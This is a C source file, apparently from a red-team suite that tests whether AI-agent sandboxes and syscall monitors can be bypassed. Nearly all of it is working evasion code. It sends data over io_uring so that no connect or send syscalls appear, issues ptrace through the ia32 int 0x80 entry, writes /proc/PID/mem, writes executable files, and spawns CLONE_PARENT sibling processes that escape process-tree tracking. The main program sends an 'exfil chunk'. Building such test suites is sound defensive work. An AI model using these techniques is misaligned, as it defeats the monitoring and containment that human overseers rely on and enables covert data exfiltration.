/* SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause) */
/*
 * rt.c - native egress for the red-team suite, loaded in-process with ctypes
 * (librt_h7.so) or run as a program (rt_uring), so an agent can send without
 * ever calling connect/sendto/sendmsg itself: raw io_uring syscalls (no
 * liburing, nothing to install) and sendmmsg with mixed destinations.
 *
 * Every function sends to the address it is given; the Python callers refuse
 * anything outside loopback.  Every wait is bounded.  Returns >= 0 on success
 * (bytes sent, or messages sent) and -errno on failure.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <signal.h>

#define RT_SQPOLL 1     /* a kernel thread submits: the agent makes no io_uring_enter for the ops */
#define RT_ASYNC 2      /* IOSQE_ASYNC: the ops run in an io-wq worker thread */
#define RT_SOCKET_OP 4  /* the socket itself is made by IORING_OP_SOCKET */
#define RT_SENDMSG 8    /* no connect: IORING_OP_SENDMSG with msg_name on an unconnected socket */

struct ring {
	int fd;
	int sqpoll;
	unsigned *sq_tail, *sq_mask, *sq_array, *sq_flags;
	unsigned *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
	void *sq_ptr, *cq_ptr;
	size_t sq_sz, cq_sz, sqe_sz;
};

static void ring_free(struct ring *r)
{
	if (r->sqes && r->sqes != MAP_FAILED)
		munmap(r->sqes, r->sqe_sz);
	if (r->cq_ptr && r->cq_ptr != MAP_FAILED && r->cq_ptr != r->sq_ptr)
		munmap(r->cq_ptr, r->cq_sz);
	if (r->sq_ptr && r->sq_ptr != MAP_FAILED)
		munmap(r->sq_ptr, r->sq_sz);
	if (r->fd >= 0)
		close(r->fd);
	memset(r, 0, sizeof(*r));
	r->fd = -1;
}

static int ring_init(struct ring *r, int sqpoll)
{
	struct io_uring_params p;
	memset(r, 0, sizeof(*r));
	memset(&p, 0, sizeof(p));
	r->fd = -1;
	if (sqpoll) {
		p.flags = IORING_SETUP_SQPOLL;
		p.sq_thread_idle = 2000;
	}
	int fd = (int)syscall(__NR_io_uring_setup, 8, &p);
	if (fd < 0)
		return -errno;
	r->fd = fd;
	r->sqpoll = sqpoll;
	r->sq_sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	r->cq_sz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	int single = p.features & IORING_FEAT_SINGLE_MMAP;
	if (single) {
		if (r->cq_sz > r->sq_sz)
			r->sq_sz = r->cq_sz;
		r->cq_sz = r->sq_sz;
	}
	r->sq_ptr = mmap(NULL, r->sq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd,
			 IORING_OFF_SQ_RING);
	if (r->sq_ptr == MAP_FAILED)
		goto fail;
	if (single)
		r->cq_ptr = r->sq_ptr;
	else {
		r->cq_ptr = mmap(NULL, r->cq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd,
				 IORING_OFF_CQ_RING);
		if (r->cq_ptr == MAP_FAILED)
			goto fail;
	}
	r->sqe_sz = p.sq_entries * sizeof(struct io_uring_sqe);
	r->sqes = mmap(NULL, r->sqe_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
	if (r->sqes == MAP_FAILED)
		goto fail;
	char *sq = r->sq_ptr, *cq = r->cq_ptr;
	r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned *)(sq + p.sq_off.array);
	r->sq_flags = (unsigned *)(sq + p.sq_off.flags);
	r->cq_head = (unsigned *)(cq + p.cq_off.head);
	r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
	r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
fail: {
	int e = errno;
	ring_free(r);
	return -e;
}
}

/* Submit one SQE and wait (bounded) for its completion; *res gets cqe->res. */
static int ring_do(struct ring *r, const struct io_uring_sqe *tmpl, int *res)
{
	unsigned tail = *r->sq_tail;
	unsigned idx = tail & *r->sq_mask;
	r->sqes[idx] = *tmpl;
	r->sq_array[idx] = idx;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
	unsigned flags = IORING_ENTER_GETEVENTS;
	unsigned to_submit = 1;
	if (r->sqpoll) {
		to_submit = 0;
		if (__atomic_load_n(r->sq_flags, __ATOMIC_ACQUIRE) & IORING_SQ_NEED_WAKEUP)
			flags |= IORING_ENTER_SQ_WAKEUP;
	}
	for (int i = 0; i < 200; i++) {
		long rc = syscall(__NR_io_uring_enter, r->fd, to_submit, 1, flags, NULL, 0);
		if (rc < 0 && errno != EINTR && errno != EAGAIN && errno != EBUSY)
			return -errno;
		if (rc >= 0)
			to_submit = 0;
		unsigned head = *r->cq_head;
		if (head != __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE)) {
			*res = r->cqes[head & *r->cq_mask].res;
			__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
			return 0;
		}
		if (r->sqpoll && (__atomic_load_n(r->sq_flags, __ATOMIC_ACQUIRE) & IORING_SQ_NEED_WAKEUP))
			flags |= IORING_ENTER_SQ_WAKEUP;
		usleep(5000);
	}
	return -ETIMEDOUT;
}

static int fill_addr(int family, const char *ip, int port, struct sockaddr_storage *ss, socklen_t *len)
{
	memset(ss, 0, sizeof(*ss));
	if (family == AF_INET6) {
		struct sockaddr_in6 *a = (struct sockaddr_in6 *)ss;
		a->sin6_family = AF_INET6;
		a->sin6_port = htons((unsigned short)port);
		if (inet_pton(AF_INET6, ip, &a->sin6_addr) != 1)
			return -EINVAL;
		*len = sizeof(*a);
	} else {
		struct sockaddr_in *a = (struct sockaddr_in *)ss;
		a->sin_family = AF_INET;
		a->sin_port = htons((unsigned short)port);
		if (inet_pton(AF_INET, ip, &a->sin_addr) != 1)
			return -EINVAL;
		*len = sizeof(*a);
	}
	return 0;
}

/*
 * Make a socket, connect it and send `len` bytes of `buf`, all through io_uring
 * (or, with RT_SENDMSG, one IORING_OP_SENDMSG carrying the destination).
 * socktype: SOCK_STREAM or SOCK_DGRAM.  Returns bytes sent or -errno.
 */
int rt_uring_egress(int family, const char *ip, int port, int socktype, const char *buf, int len, int flags)
{
	struct ring r;
	struct sockaddr_storage ss;
	socklen_t alen;
	struct io_uring_sqe sqe;
	int res = 0, rc, fd = -1;
	if ((rc = fill_addr(family, ip, port, &ss, &alen)) < 0)
		return rc;
	if ((rc = ring_init(&r, flags & RT_SQPOLL)) < 0)
		return rc;
	unsigned char sqe_flags = (flags & RT_ASYNC) ? IOSQE_ASYNC : 0;
	if (flags & RT_SOCKET_OP) {
		memset(&sqe, 0, sizeof(sqe));
		sqe.opcode = IORING_OP_SOCKET;
		sqe.fd = family;
		sqe.off = (unsigned)socktype;
		sqe.len = 0;
		sqe.flags = sqe_flags;
		if ((rc = ring_do(&r, &sqe, &res)) < 0)
			goto out;
		if (res < 0) {
			rc = res;
			goto out;
		}
		fd = res;
	} else {
		fd = socket(family, socktype, 0);
		if (fd < 0) {
			rc = -errno;
			goto out;
		}
	}
	if (flags & RT_SENDMSG) {
		struct iovec iov = {.iov_base = (void *)buf, .iov_len = (size_t)len};
		struct msghdr msg;
		memset(&msg, 0, sizeof(msg));
		msg.msg_name = &ss;
		msg.msg_namelen = alen;
		msg.msg_iov = &iov;
		msg.msg_iovlen = 1;
		memset(&sqe, 0, sizeof(sqe));
		sqe.opcode = IORING_OP_SENDMSG;
		sqe.fd = fd;
		sqe.addr = (unsigned long)&msg;
		sqe.len = 1;
		sqe.flags = sqe_flags;
		if ((rc = ring_do(&r, &sqe, &res)) < 0)
			goto out;
		rc = res;
		goto out;
	}
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_CONNECT;
	sqe.fd = fd;
	sqe.addr = (unsigned long)&ss;
	sqe.off = alen;
	sqe.flags = sqe_flags;
	if ((rc = ring_do(&r, &sqe, &res)) < 0)
		goto out;
	if (res < 0) {
		rc = res;
		goto out;
	}
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_SEND;
	sqe.fd = fd;
	sqe.addr = (unsigned long)buf;
	sqe.len = (unsigned)len;
	sqe.flags = sqe_flags;
	if ((rc = ring_do(&r, &sqe, &res)) < 0)
		goto out;
	rc = res;
out:
	if (fd >= 0)
		close(fd);
	ring_free(&r);
	return rc;
}

/* IORING_OP_SEND on a socket that is already connected (no connect in this process). */
int rt_uring_send_fd(int fd, const char *buf, int len, int flags)
{
	struct ring r;
	struct io_uring_sqe sqe;
	int res = 0, rc;
	if ((rc = ring_init(&r, flags & RT_SQPOLL)) < 0)
		return rc;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_SEND;
	sqe.fd = fd;
	sqe.addr = (unsigned long)buf;
	sqe.len = (unsigned)len;
	sqe.flags = (flags & RT_ASYNC) ? IOSQE_ASYNC : 0;
	rc = ring_do(&r, &sqe, &res);
	ring_free(&r);
	return rc < 0 ? rc : res;
}

/*
 * One sendmmsg of n datagrams on an unconnected UDP socket: message 0 to
 * (ip0, port0), messages 1..n-1 to (ip1, port1).  Returns messages sent.
 */
int rt_sendmmsg_mixed(int family, const char *ip0, int port0, const char *ip1, int port1, int n, int len)
{
	struct sockaddr_storage a0, a1;
	socklen_t l0, l1;
	int rc;
	if (n < 1 || n > 1024 || len < 1 || len > 1400)
		return -EINVAL;
	if ((rc = fill_addr(family, ip0, port0, &a0, &l0)) < 0 || (rc = fill_addr(family, ip1, port1, &a1, &l1)) < 0)
		return rc;
	char *payload = calloc(1, (size_t)len);
	struct mmsghdr *m = calloc((size_t)n, sizeof(*m));
	struct iovec *iov = calloc((size_t)n, sizeof(*iov));
	if (!payload || !m || !iov) {
		free(payload);
		free(m);
		free(iov);
		return -ENOMEM;
	}
	memset(payload, 'x', (size_t)len);
	for (int i = 0; i < n; i++) {
		iov[i].iov_base = payload;
		iov[i].iov_len = (size_t)len;
		m[i].msg_hdr.msg_iov = &iov[i];
		m[i].msg_hdr.msg_iovlen = 1;
		m[i].msg_hdr.msg_name = i == 0 ? (void *)&a0 : (void *)&a1;
		m[i].msg_hdr.msg_namelen = i == 0 ? l0 : l1;
	}
	int fd = socket(family, SOCK_DGRAM, 0);
	if (fd < 0)
		rc = -errno;
	else {
		rc = sendmmsg(fd, m, (unsigned)n, 0);
		if (rc < 0)
			rc = -errno;
		close(fd);
	}
	free(payload);
	free(m);
	free(iov);
	return rc;
}

/* ------------------------------------------------------------------ round 3 */
#include <sys/un.h>

/*
 * Connect a unix stream socket to `path` and send `len` bytes, the connect and
 * the send both through io_uring: no connect(2), no send/write syscall.
 * Returns bytes sent or -errno.
 */
int rt_uring_unix_send(const char *path, const char *buf, int len)
{
	struct ring r;
	struct sockaddr_un sun;
	struct io_uring_sqe sqe;
	int res = 0, rc, fd;
	if (strlen(path) >= sizeof(sun.sun_path))
		return -ENAMETOOLONG;
	memset(&sun, 0, sizeof(sun));
	sun.sun_family = AF_UNIX;
	strcpy(sun.sun_path, path);
	if ((rc = ring_init(&r, 0)) < 0)
		return rc;
	fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (fd < 0) {
		rc = -errno;
		ring_free(&r);
		return rc;
	}
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_CONNECT;
	sqe.fd = fd;
	sqe.addr = (unsigned long)&sun;
	sqe.off = sizeof(sun);
	if ((rc = ring_do(&r, &sqe, &res)) < 0 || (rc = res) < 0)
		goto out;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_SEND;
	sqe.fd = fd;
	sqe.addr = (unsigned long)buf;
	sqe.len = (unsigned)len;
	if ((rc = ring_do(&r, &sqe, &res)) < 0)
		goto out;
	rc = res;
	/* let the daemon's child read the command before the socket closes (bounded) */
	usleep(300000);
out:
	close(fd);
	ring_free(&r);
	return rc;
}

/*
 * ptrace(request, pid, 0, 0) through the 32-bit compat entry (int $0x80, ia32
 * syscall 26) from this 64-bit process: the syscall number the kernel sees is
 * the ia32 one.  Returns the result or -errno (-ENOSYS without IA32 emulation).
 */
long rt_ptrace_int80(long request, long pid)
{
#if defined(__x86_64__)
	long ret;
	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(26L), "b"(request), "c"(pid), "d"(0L), "S"(0L)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
#else
	(void)request;
	(void)pid;
	return -ENOSYS;
#endif
}

/* ------------------------------------------------------------------ round 4 */
#include <fcntl.h>
#include <sched.h>

/* Submit one SQE and collect `want` CQEs (bounded); res[] gets their results in order. */
static int ring_do_n(struct ring *r, const struct io_uring_sqe *tmpl, int *res, int want)
{
	int got = 0, rc = ring_do(r, tmpl, &res[0]);
	if (rc < 0)
		return rc;
	got = 1;
	for (int i = 0; i < 200 && got < want; i++) {
		unsigned head = *r->cq_head;
		if (head != __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE)) {
			res[got++] = r->cqes[head & *r->cq_mask].res;
			__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
			continue;
		}
		syscall(__NR_io_uring_enter, r->fd, 0, 1, IORING_ENTER_GETEVENTS, NULL, 0);
		usleep(2000);
	}
	return got;
}

/*
 * Open `path` read-write with IORING_OP_OPENAT, read `len` bytes at offset `off`
 * with IORING_OP_READ and write the same bytes back with IORING_OP_WRITE, then
 * IORING_OP_CLOSE: no open/read/write/close syscall at all (for /proc/PID/mem,
 * `off` is the address).  Returns bytes written or -errno.
 */
long rt_uring_open_rw(const char *path, unsigned long off, int len)
{
	struct ring r;
	struct io_uring_sqe sqe;
	int res = 0, rc, fd;
	char buf[256];
	if (len < 1 || len > (int)sizeof(buf))
		return -EINVAL;
	if ((rc = ring_init(&r, 0)) < 0)
		return rc;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_OPENAT;
	sqe.fd = AT_FDCWD;
	sqe.addr = (unsigned long)path;
	sqe.open_flags = O_RDWR | O_CLOEXEC;
	if ((rc = ring_do(&r, &sqe, &res)) < 0 || (rc = res) < 0)
		goto out_ring;
	fd = res;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_READ;
	sqe.fd = fd;
	sqe.addr = (unsigned long)buf;
	sqe.len = (unsigned)len;
	sqe.off = off;
	if ((rc = ring_do(&r, &sqe, &res)) < 0 || (rc = res) < 0)
		goto out;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_WRITE;
	sqe.fd = fd;
	sqe.addr = (unsigned long)buf;
	sqe.len = (unsigned)res;
	sqe.off = off;
	if ((rc = ring_do(&r, &sqe, &res)) < 0)
		goto out;
	rc = res;
out:
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_CLOSE;
	sqe.fd = fd;
	ring_do(&r, &sqe, &res);
out_ring:
	ring_free(&r);
	return rc;
}

/*
 * Create `path` (mode 0755) and fill it with `len` bytes of `data`, all through
 * io_uring (OPENAT, WRITE in 64 KiB chunks, CLOSE).  Returns bytes written or -errno.
 */
long rt_uring_write_file(const char *path, const char *data, long len)
{
	struct ring r;
	struct io_uring_sqe sqe;
	int res = 0, rc, fd;
	long done = 0;
	if ((rc = ring_init(&r, 0)) < 0)
		return rc;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_OPENAT;
	sqe.fd = AT_FDCWD;
	sqe.addr = (unsigned long)path;
	sqe.open_flags = O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC;
	sqe.len = 0755;
	if ((rc = ring_do(&r, &sqe, &res)) < 0 || (rc = res) < 0) {
		ring_free(&r);
		return rc;
	}
	fd = res;
	for (int i = 0; i < 100000 && done < len; i++) {
		long chunk = len - done > 65536 ? 65536 : len - done;
		memset(&sqe, 0, sizeof(sqe));
		sqe.opcode = IORING_OP_WRITE;
		sqe.fd = fd;
		sqe.addr = (unsigned long)(data + done);
		sqe.len = (unsigned)chunk;
		sqe.off = (unsigned long)done;
		if ((rc = ring_do(&r, &sqe, &res)) < 0)
			break;
		if (res <= 0) {
			rc = res < 0 ? res : -EIO;
			break;
		}
		done += res;
	}
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_CLOSE;
	sqe.fd = fd;
	ring_do(&r, &sqe, &res);
	ring_free(&r);
	return rc < 0 ? rc : done;
}

/*
 * One IORING_OP_SENDMSG_ZC (zero-copy) carrying a destination on an unconnected
 * UDP socket.  Waits for the result and the buffer-release notification.
 * Returns bytes sent or -errno.
 */
long rt_uring_sendmsg_zc(int family, const char *ip, int port, const char *buf, int len)
{
	struct ring r;
	struct sockaddr_storage ss;
	socklen_t alen;
	struct io_uring_sqe sqe;
	int res[2] = {0, 0}, rc, fd;
	if ((rc = fill_addr(family, ip, port, &ss, &alen)) < 0)
		return rc;
	if ((rc = ring_init(&r, 0)) < 0)
		return rc;
	fd = socket(family, SOCK_DGRAM, 0);
	if (fd < 0) {
		rc = -errno;
		ring_free(&r);
		return rc;
	}
	struct iovec iov = {.iov_base = (void *)buf, .iov_len = (size_t)len};
	struct msghdr msg;
	memset(&msg, 0, sizeof(msg));
	msg.msg_name = &ss;
	msg.msg_namelen = alen;
	msg.msg_iov = &iov;
	msg.msg_iovlen = 1;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_SENDMSG_ZC;
	sqe.fd = fd;
	sqe.addr = (unsigned long)&msg;
	sqe.len = 1;
	rc = ring_do_n(&r, &sqe, res, 2);
	if (rc >= 1)
		rc = res[0];
	close(fd);
	ring_free(&r);
	return rc;
}

/*
 * clone(CLONE_PARENT): the child is the caller's SIBLING (its parent is the
 * caller's parent), not its child.  The child connects to ip:port over TCP,
 * sends `len` bytes, writes the send's result (an int) to `wfd` and exits.
 * Only raw syscalls in the child (glibc's state is the caller's).
 * Returns the child's pid or -errno.
 */
long rt_clone_parent_egress(int family, const char *ip, int port, const char *buf, int len, int wfd)
{
	struct sockaddr_storage ss;
	socklen_t alen;
	int rc;
	if ((rc = fill_addr(family, ip, port, &ss, &alen)) < 0)
		return rc;
	long pid = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, NULL, NULL, 0);
	if (pid < 0)
		return -errno;
	if (pid == 0) {
		int out = -1;
		int fd = (int)syscall(SYS_socket, family, SOCK_STREAM, 0);
		if (fd >= 0 && syscall(SYS_connect, fd, &ss, alen) == 0)
			out = (int)syscall(SYS_sendto, fd, buf, (size_t)len, 0, NULL, 0);
		else
			out = -errno;
		syscall(SYS_write, wfd, &out, sizeof(out));
		if (fd >= 0)
			syscall(SYS_close, fd);
		syscall(SYS_exit_group, 0);
	}
	return pid;
}

/*
 * clone(CLONE_PARENT) then execve(path, argv, envp) in the child: a program
 * started by the caller that is the caller's sibling.  Returns the pid or -errno.
 */
long rt_clone_parent_exec(const char *path, char *const argv[], char *const envp[])
{
	long pid = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, NULL, NULL, 0);
	if (pid < 0)
		return -errno;
	if (pid == 0) {
		syscall(SYS_execve, path, argv, envp);
		syscall(SYS_exit_group, 127);
	}
	return pid;
}

#ifdef RT_MAIN
/* rt_uring FAMILY(4|6) IP PORT tcp|udp [FLAGS]: one io_uring egress, prints the result. */
int main(int argc, char **argv)
{
	if (argc < 5) {
		fprintf(stderr, "usage: %s 4|6 IP PORT tcp|udp [flags]\n", argv[0]);
		return 2;
	}
	int family = strcmp(argv[1], "6") == 0 ? AF_INET6 : AF_INET;
	int type = strcmp(argv[4], "udp") == 0 ? SOCK_DGRAM : SOCK_STREAM;
	int flags = argc > 5 ? atoi(argv[5]) : 0;
	static const char msg[] = "h7-redteam exfil chunk from a child\n";
	int rc = rt_uring_egress(family, argv[2], atoi(argv[3]), type, msg, (int)sizeof(msg) - 1, flags);
	printf("%d\n", rc);
	return rc < 0 ? 1 : 0;
}
#endif
